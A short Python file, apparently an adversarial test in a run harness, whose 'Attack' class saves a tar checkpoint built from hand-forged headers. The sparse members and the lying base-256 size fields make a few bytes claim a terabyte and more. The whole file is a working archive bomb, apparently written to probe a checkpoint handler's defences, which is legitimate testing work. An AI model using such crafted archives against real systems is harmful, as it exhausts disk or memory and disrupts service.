"""Hands over a checkpoint of a few bytes whose files are a terabyte and more, by sparse members and by sizes that lie."""

from aim import hand_over, member

from run import ZEWDPCBaseRun

SPARSE = b"S"


def sparse(name, size):
    header = bytearray(member(name, type=SPARSE))
    header[386:398], header[398:410] = b"%011o " % (size - 1), b"%011o " % 0
    header[483:495] = b"%011o " % size if size < 8**11 else b"\x80" + size.to_bytes(11, "big")
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return bytes(header)


class Attack(ZEWDPCBaseRun):
    def save_checkpoint(self, path):
        lying = bytearray(member("checkpoint/long"))
        lying[124:136] = b"\x80" + (1 << 44).to_bytes(11, "big")
        lying[148:156] = b" " * 8
        lying[148:156] = b"%06o\0 " % sum(lying[:512])
        hand_over(b"".join(sparse(f"checkpoint/{n}", 1 << (30 + n)) for n in range(11)) + bytes(lying) + bytes(1 << 20))

    def load_checkpoint(self, path):
        pass

    def purchase_phase(self, unlabelled_dataset):
        pass
